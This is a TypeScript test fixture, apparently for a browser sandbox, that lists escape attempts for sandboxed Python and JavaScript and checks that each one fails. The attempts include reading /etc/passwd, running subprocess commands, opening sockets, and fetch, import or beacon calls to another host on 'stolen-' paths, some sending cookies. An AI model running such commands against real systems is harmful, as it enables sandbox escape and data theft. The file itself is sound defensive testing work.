/** What environment code tries to reach and must not, for every browser that the suites run in. */
import { makeProgram } from "./programs";

/** Python statements that would leave what they reached in \`got\`; each must raise instead. */
export const PYTHON_ATTEMPTS: [name: string, statements: string][] = [
  ["the js module", "import js\ngot = js.fetch"],
  ["the js module by importlib", "import importlib\ngot = importlib.import_module('js')"],
  ["pyodide", "import pyodide\ngot = pyodide"],
  ["pyodide.code.run_js", "from pyodide.code import run_js\ngot = run_js('self')"],
  ["pyodide.http", "from pyodide.http import open_url\ngot = open_url('/')"],
  ["pyodide_js", "import pyodide_js\ngot = pyodide_js"],
  ["the core of Pyodide", "import _pyodide_core\ngot = _pyodide_core"],
  ["micropip", "import micropip\ngot = micropip"],
  ["ctypes", "import ctypes\ngot = ctypes.string_at(0, 8)"],
  ["_ctypes", "import _ctypes\ngot = _ctypes"],
  ["a socket", "import socket\ngot = socket.create_connection(('127.0.0.1', 80))"],
  ["urllib", "import urllib.request\ngot = urllib.request.urlopen('http://127.0.0.1/')"],
  [
    "http.client",
    "import http.client\nc = http.client.HTTPConnection('127.0.0.1')\nc.request('GET', '/')\ngot = c",
  ],
  ["a process", "import subprocess\ngot = subprocess.check_output(['id'])"],
  ["a fork", "import os\ngot = os.fork()"],
  ["the host's files", "got = open('/etc/passwd').read()"],
  ["the host's folders", "import os\ngot = os.listdir('/home/web_user/../../root')"],
];

/** Tries one Python attempt a turn: the action says which. */
export const ATTEMPTING = makeProgram({
  prelude: `ATTEMPTS = ${JSON.stringify(PYTHON_ATTEMPTS.map(([, statements]) => statements))}`,
  step: `names = {}
try:
    exec(ATTEMPTS[int(re.search(r"\\d+", action).group())], names)
    return f"REACHED {names['got']!r}", 0.0, False, False, {}
except Exception as error:
    return f"refused {type(error).__name__}", 0.0, False, False, {}`,
});

/** JavaScript expressions, each a promise or a value; `reached` when it resolves, `refused` when it throws. */
export const WORKER_ATTEMPTS: Record<string, string> = {
  "fetch of the site": "fetch(SITE + 'stolen-fetch')",
  "fetch of another host": "fetch(OTHER + 'stolen-fetch')",
  "opaque fetch of another host": "fetch(OTHER + 'stolen-no-cors', { mode: 'no-cors' })",
  "fetch with the site's cookies":
    "fetch(SITE + 'stolen-cookie', { credentials: 'include', mode: 'no-cors' })",
  XMLHttpRequest:
    "new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', OTHER + 'stolen-xhr'); x.send(); })",
  "synchronous XMLHttpRequest":
    "(() => { const x = new XMLHttpRequest(); x.open('GET', OTHER + 'stolen-sync', false); x.send(); })()",
  WebSocket:
    "new Promise((yes, no) => { const s = new WebSocket(OTHER.replace('http', 'ws') + 'stolen-socket'); s.onopen = yes; s.onerror = no; })",
  EventSource:
    "new Promise((yes, no) => { const s = new EventSource(OTHER + 'stolen-events'); s.onopen = yes; s.onerror = no; })",
  importScripts: "importScripts(OTHER + 'stolen-script.js')",
  "import()": "import(OTHER + 'stolen-module.js')",
  "a nested worker from the site":
    "new Promise((yes, no) => { const w = new Worker(SITE + 'page.js'); w.onmessage = yes; w.onerror = no; setTimeout(no, 1500); })",
  "a font": "new FontFace('x', 'url(' + OTHER + 'stolen-font)').load()",
  "a beacon":
    "new Promise((yes, no) => (navigator.sendBeacon ? yes(navigator.sendBeacon(OTHER + 'stolen-beacon')) : no()))",
  eval: "eval('1')",
  "Function()": "new Function('return 1')()",
  IndexedDB:
    "new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = yes; r.onerror = no; })",
  "Cache Storage": "caches.open('x')",
  "the private file system": "navigator.storage.getDirectory()",
  localStorage: "localStorage.length",
  cookies: "document.cookie.length",
  "the page": "parent.document",
};

/**
 * A worker's script that tries all of these and tells the page, as the text of a fatal error, `REACHED` and the list of
 * those that worked. It also calls out on a channel that the page's origin could hear.
 */
export function makeAttackScript(site: string, other: string): string {
  const attempts = Object.entries(WORKER_ATTEMPTS)
    .map(([name, code]) => `await attempt(${JSON.stringify(name)}, async () => ${code});`)
    .join("\n");
  // The one way out of a worker is a message; a fatal one reaches the page as an error's text.
  return `
    const SITE = ${JSON.stringify(site)}, OTHER = ${JSON.stringify(other)};
    const reached = [];
    const attempt = async (name, run) => {
      try {
        await Promise.race([run(), new Promise((_, no) => setTimeout(no, 3000))]);
        reached.push(name);
      } catch {}
    };
    (async () => {
      new BroadcastChannel("app").postMessage("hello");
      ${attempts}
      postMessage({ type: "fatal", message: "REACHED " + JSON.stringify(reached) });
    })();`;
}

/** A page without any policy that starts the same script as a worker of its own: what the walls hold back. */
export const UNWALLED_PAGE = `<!doctype html><meta charset="utf-8"><title>No walls</title><body><script>
window.attack = () => new Promise((resolve) => {
  new Worker("attack.js").onmessage = (event) => resolve(event.data.message);
});</script>`;

/** Attempts that must work without walls, or their failing within them would prove nothing. */
export const REACHED_WITHOUT_WALLS = [
  "fetch of the site",
  "fetch of another host",
  "opaque fetch of another host",
  "XMLHttpRequest",
  "EventSource",
  "importScripts",
  "eval",
  "Function()",
  "IndexedDB",
  "Cache Storage",
  "the private file system",
];
